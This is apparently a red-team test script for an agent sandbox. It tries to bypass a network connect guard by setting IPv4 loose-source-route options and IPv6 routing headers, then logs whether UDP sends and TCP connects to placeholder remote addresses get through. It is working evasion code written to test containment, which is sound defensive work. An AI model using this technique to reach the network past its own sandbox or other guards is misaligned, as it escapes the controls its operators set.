#!/usr/bin/python3
# Red team 40: a --net host agent source-routes past the connect guard: the guard checks the
# address given to sendto/connect, but with an IPv4 loose source route (IP_OPTIONS, LSRR: no
# privilege needed) the kernel routes to the option's first hop instead, and with an IPv6
# routing header (IPV6_RTHDR type 2, or a type 4 segment list) to the header's address.
# The first hop is the host's loopback or own address; the given destination is remote.
# Usage: srcroute.py <dir> <tcp port> <udp port> <own v4> <own v6>; results to <dir>/srcroute.log
import socket, sys, time
d, tport, uport, own4, own6 = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5]
out = open(f"{d}/srcroute.log", "a", buffering=1)
def say(*a): out.write(" ".join(str(x) for x in a) + "\n")
REMOTE4, REMOTE6 = "192.0.2.10", "2001:db8::10"
for hop in ("127.0.0.1", own4):
    opt = bytes([131, 7, 4]) + socket.inet_aton(hop) + bytes([1])  # LSRR, then a NOP
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind)
        name = "udp" if kind == socket.SOCK_DGRAM else "tcp"
        try:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, opt)
            if kind == socket.SOCK_DGRAM:
                s.sendto(f"rt40 lsrr via {hop}".encode(), (REMOTE4, uport)); say(name, "lsrr", hop, "sent")
            else:
                s.settimeout(2); s.connect((REMOTE4, tport)); say(name, "lsrr", hop, "CONNECTED")
        except OSError as e:
            say(name, "lsrr", hop, "refused:", e.strerror or e)
for hop in ("::1", own6):
    seg = socket.inet_pton(socket.AF_INET6, hop)
    for typ, rh in ((2, bytes([0, 2, 2, 1, 0, 0, 0, 0]) + seg), (4, bytes([0, 2, 4, 0, 0, 0, 0, 0]) + seg)):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            s = socket.socket(socket.AF_INET6, kind)
            name = "udp" if kind == socket.SOCK_DGRAM else "tcp"
            try:
                s.setsockopt(socket.IPPROTO_IPV6, 57, rh)  # IPV6_RTHDR
                if kind == socket.SOCK_DGRAM:
                    s.sendto(f"rt40 rh{typ} via {hop}".encode(), (REMOTE6, uport)); say(name, f"rh{typ}", hop, "sent")
                else:
                    s.settimeout(2); s.connect((REMOTE6, tport)); say(name, f"rh{typ}", hop, "CONNECTED")
            except OSError as e:
                say(name, f"rh{typ}", hop, "refused:", e.strerror or e)
say("done")
time.sleep(600)
